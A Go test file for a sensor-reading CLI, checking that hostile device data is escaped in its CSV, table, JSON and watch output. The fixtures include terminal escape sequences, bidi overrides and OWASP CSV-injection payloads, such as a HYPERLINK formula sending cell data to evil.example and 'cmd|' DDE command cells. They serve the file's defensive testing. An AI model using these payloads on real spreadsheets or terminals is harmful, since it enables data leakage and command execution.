package cli

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"regexp"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats-server/v2/server"
	"github.com/nats-io/nats.go/jetstream"

	"github.com/sensehat/sensehat/internal/testutil"
)

// evilID is a device id that a subject token can hold and CheckToken
// lets through: a right-to-left override (UAX #9) and an OSC that sets
// the window title (xterm's ctlseqs).
const evilID = "\u202eevil\x1b]0;t\x07"

// hostileReadings is what a hostile device stores, written by hand as the
// JSON on the wire (\u escapes decode to the raw runes):
//   - an env reading whose contract fields are well formed (one negative)
//     beside fields outside the contract: a name that sets the terminal's
//     title, a value with a screen clear, a bidi override, a tab and a
//     newline, and the formula cells of OWASP's CSV injection page
//     (=HYPERLINK, +cmd|, @SUM, -2+3, a leading tab and carriage return);
//   - an env reading with 1,000 invented fields;
//   - a joystick event with an invented key.
func hostileReadings(now time.Time) []struct{ subject, data string } {
	ts := now.UTC().Format(time.RFC3339Nano)
	var many strings.Builder
	many.WriteString(`{"temperature_c":21.50,"temperature_raw_c":22.00`)
	for i := range 1000 {
		fmt.Fprintf(&many, `,"f%04d":%d`, i, i)
	}
	many.WriteString(`,"time":"` + ts + `"}`)
	base := "sensehat." + evilID + "."
	return []struct{ subject, data string }{
		{base + "sensors.env", `{"temperature_c":-5.25,"temperature_raw_c":-4.00,` +
			`"\u001b]0;pwned\u0007":1,` +
			`"note":"\u001b[2J\u001b[31mred\u009b1m\u202eevil\ttab\nFAKE ROW",` +
			`"f1":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",` +
			`"f2":"+cmd|' /C calc'!A0",` +
			`"f3":"@SUM(1+1)*cmd|' /C calc'!A0",` +
			`"f4":"-2+3+cmd|' /C calc'!A0",` +
			`"f5":"\t=1+1",` +
			`"f6":"\r=1+1",` +
			`"time":"` + ts + `"}`},
		{base + "sensors.env", many.String()},
		{base + "joystick.up", `{"key":"\u001b[2Jup","action":"pressed","time":"` + ts + `"}`},
	}
}

// startHostileStream stores hostileReadings in stream HOSTILE on a real
// server with JetStream.
func startHostileStream(t *testing.T) (url string, at time.Time) {
	t.Helper()
	srv := testutil.StartServer(t, &server.Options{JetStream: true, StoreDir: t.TempDir()})
	nc := testutil.Connect(t, srv.URL())
	js, err := jetstream.New(nc)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if _, err := js.CreateStream(ctx, jetstream.StreamConfig{Name: "HOSTILE", Subjects: []string{"sensehat.>"}}); err != nil {
		t.Fatal(err)
	}
	at = time.Now().Add(-time.Minute)
	for _, m := range hostileReadings(at) {
		if _, err := js.Publish(ctx, m.subject, []byte(m.data)); err != nil {
			t.Fatalf("storing %s: %v", m.subject, err)
		}
	}
	return srv.URL(), at
}

// hostileHistory runs "sensehat history" with flags on the hostile
// device's stream, insists on exit 0 and output safe for a terminal, and
// returns the output and the time the readings were stored at.
func hostileHistory(t *testing.T, flags ...string) (string, time.Time) {
	t.Helper()
	url, at := startHostileStream(t)
	args := append([]string{"history", "--nats", url, "--id", evilID, "--stream", "HOSTILE"}, flags...)
	code, out, errOut := run(context.Background(), args...)
	if code != 0 {
		t.Fatalf("%s exit %d: %s", strings.Join(args, " "), code, errOut)
	}
	assertTerminalSafe(t, strings.Join(append([]string{"history"}, flags...), " "), out)
	return out, at
}

func TestHostileHistoryCSV(t *testing.T) {
	testutil.CheckLeaks(t)
	out, at := hostileHistory(t, "--csv")
	// Byte for byte. The header: the contract's quantities, then the
	// first 8 fields outside it (the bound), in the order met, not the
	// 1,000 invented ones. The cells: what came from the device escaped
	// (a row is one line), OWASP's formula cells prefixed with a single
	// quote (and quoted as RFC 4180 says where they hold a quote or a
	// comma), the negative numbers left numbers, the tab and the carriage
	// return that would start a formula escaped like any control.
	ts := at.UTC().Format(time.RFC3339Nano)
	subj := `sensehat.\u202eevil\x1b]0;t\x07.`
	want := `time,kind,subject,env.temperature_c,env.temperature_raw_c,env.\x1b]0;pwned\x07,env.note,env.f1,env.f2,env.f3,env.f4,env.f5,env.f6,joystick.key,joystick.action` + "\n" +
		ts + `,env,` + subj + `sensors.env,-5.25,-4.00,1,\x1b[2J\x1b[31mred\u009b1m\u202eevil\x09tab\x0aFAKE ROW,` +
		`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'+cmd|' /C calc'!A0,'@SUM(1+1)*cmd|' /C calc'!A0,'-2+3+cmd|' /C calc'!A0,\x09=1+1,\x0d=1+1,,` + "\n" +
		ts + `,env,` + subj + `sensors.env,21.50,22.00,,,,,,,,,,` + "\n" +
		ts + `,joystick,` + subj + `joystick.up,,,,,,,,,,,\x1b[2Jup,pressed` + "\n"
	if out != want {
		t.Errorf("CSV\n got %q\nwant %q", out, want)
	}

	// Read back as a spreadsheet would: no cell starts a formula unless
	// it is a number, every row has the header's width.
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, out)
	}
	if len(recs) != 4 {
		t.Fatalf("%d records, want the header and 3 readings:\n%s", len(recs), out)
	}
	for i, rec := range recs {
		if len(rec) != 15 {
			t.Errorf("record %d has %d cells, want 15", i, len(rec))
		}
		for _, c := range rec {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !isJSONNumber(c) {
				t.Errorf("record %d: cell %q would run as a formula", i, c)
			}
		}
	}
	// The reading with 1,000 fields keeps its contract values; the bound
	// was already full with the first reading's 8 fields.
	if got := strings.Join(recs[2][:5], ","); !strings.HasSuffix(got, ",21.50,22.00") {
		t.Errorf("the reading with 1,000 fields: %q", got)
	}
}

func TestHostileHistoryTable(t *testing.T) {
	testutil.CheckLeaks(t)
	out, _ := hostileHistory(t)
	lines := strings.Split(out, "\n")
	if !strings.HasPrefix(lines[0], `\u202eevil\x1b]0;t\x07: 3 readings from `) {
		t.Errorf("first line %q", lines[0])
	}
	// One row per numeric quantity: the two temperatures and the numeric
	// field outside the contract, its name escaped; no row per invented
	// field, no text field as a row.
	var rows []string
	for _, l := range lines[3:] {
		if l == "" {
			break
		}
		name, _, _ := strings.Cut(l, " ")
		rows = append(rows, name)
	}
	if want := []string{"env.temperature_c", "env.temperature_raw_c", `env.\x1b]0;pwned\x07`}; strings.Join(rows, "|") != strings.Join(want, "|") {
		t.Errorf("rows %q, want %q:\n%s", rows, want, out)
	}
	if !regexp.MustCompile(`(?m)^env\.temperature_c +2 +-5\.25 +8\.125 +21\.5 +21\.5 `).MatchString(out) {
		t.Errorf("temperature row wrong:\n%s", out)
	}
	for _, want := range []string{
		"\njoystick: other pressed 1;\n",
		"\nenv: 1 readings had fields outside the contract left out (up to 1000 in one); --json shows every reading as published\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
}

func TestHostileHistoryJSON(t *testing.T) {
	testutil.CheckLeaks(t)
	out, _ := hostileHistory(t, "--json")
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	want := hostileReadings(time.Now())
	if len(lines) != len(want) {
		t.Fatalf("%d lines, want %d:\n%s", len(lines), len(want), out)
	}
	// Still JSON, meaning what was published: the escapes are JSON's.
	if !strings.Contains(lines[0], `"subject":"sensehat.\u202eevil\u001b]0;t\u0007.sensors.env"`) {
		t.Errorf("line 0: subject not in JSON escapes:\n%s", lines[0])
	}
	for i, l := range lines {
		var v struct {
			Subject string          `json:"subject"`
			Reading json.RawMessage `json:"reading"`
		}
		if err := json.Unmarshal([]byte(l), &v); err != nil {
			t.Fatalf("line %d is not JSON: %v", i, err)
		}
		if v.Subject != want[i].subject {
			t.Errorf("line %d subject %q, published %q", i, v.Subject, want[i].subject)
		}
		// Times differ (want was built now): compare the rest.
		var got, pub map[string]any
		if err := json.Unmarshal(v.Reading, &got); err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal([]byte(want[i].data), &pub); err != nil {
			t.Fatal(err)
		}
		delete(got, "time")
		delete(pub, "time")
		if fmt.Sprint(got) != fmt.Sprint(pub) {
			t.Errorf("line %d reading changed:\n got %v\nwant %v", i, got, pub)
		}
	}
}

// A watched reading of the contract shows its quantities under their
// names; the device's own fields are escaped and bounded.
func TestHostileWatchReadings(t *testing.T) {
	testutil.CheckLeaks(t)
	srv := testutil.StartServer(t, nil)
	nc := testutil.Connect(t, srv.URL())
	var out, errOut testutil.LogBuffer
	a := &App{Stdout: &out, Stderr: &errOut, Getenv: func(string) string { return "" }}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	code := make(chan int, 1)
	go func() { code <- a.Run(ctx, []string{"watch", "--nats", srv.URL(), "env", "joystick"}) }()
	testutil.WaitFor(t, 15*time.Second, "watch to subscribe", func() bool { return strings.Contains(errOut.String(), "watching") })
	for _, m := range hostileReadings(time.Date(2026, 5, 1, 12, 0, 0, 0, time.UTC)) {
		if err := nc.Publish(m.subject, []byte(m.data)); err != nil {
			t.Fatal(err)
		}
	}
	testutil.WaitFor(t, 15*time.Second, "three lines", func() bool { return strings.Count(out.String(), "\n") >= 3 })
	cancel()
	<-code
	got := out.String()
	assertTerminalSafe(t, "watch", got)
	lines := strings.Split(strings.TrimSuffix(got, "\n"), "\n")
	if len(lines) != 3 {
		t.Fatalf("%d lines for 3 messages:\n%s", len(lines), got)
	}
	at := time.Date(2026, 5, 1, 12, 0, 0, 0, time.UTC).Local().Format("15:04:05.000")
	subj := `\u202eevil\x1b]0;t\x07.`
	// The env and joystick subscriptions deliver on their own goroutines:
	// the joystick line may come first.
	sort.Strings(lines)
	wantLines := []string{
		subj + `sensors.env ` + at + ` env.temperature_c=-5.25 env.temperature_raw_c=-4.00 env.\x1b]0;pwned\x07=1 env.note=\x1b[2J\x1b[31mred\u009b1m\u202eevil\x09tab\x0aFAKE ROW env.f1==HYPERLINK("http://evil.example/?"&A1,"click") env.f2=+cmd|' /C calc'!A0 (4 more fields outside the contract)`,
		subj + `sensors.env ` + at + ` env.temperature_c=21.50 env.temperature_raw_c=22.00 env.f0000=0 env.f0001=1 env.f0002=2 env.f0003=3 (996 more fields outside the contract)`,
		subj + `joystick.up ` + at + ` joystick.key=\x1b[2Jup joystick.action=pressed`,
	}
	sort.Strings(wantLines)
	for i, want := range wantLines {
		if lines[i] != want {
			t.Errorf("line %d\n got %s\nwant %s", i, lines[i], want)
		}
	}
}

// OWASP's CSV injection page (https://owasp.org/www-community/attacks/CSV_Injection):
// a cell must not begin with '=', '+', '-', '@', tab (0x09) or carriage
// return (0x0D); one that does is prefixed with a single quote. Numbers
// in JSON's grammar (RFC 8259, section 6) are left numbers, negative
// ones included; anything else starting with '-' is quoted.
func TestCSVCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"21.50", "21.50"},
		{"a=b", "a=b"},
		{"=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-2+3", "'-2+3"},
		{"-", "'-"},
		{"-.5", "'-.5"},
		{"-01", "'-01"},
		{"-1e", "'-1e"},
		{"+1", "'+1"},
		{"-5.25", "-5.25"},
		{"-0", "-0"},
		{"-1e5", "-1e5"},
		{"-2.5E-3", "-2.5E-3"},
	} {
		if got := csvCell(tc.in); got != tc.want {
			t.Errorf("csvCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}
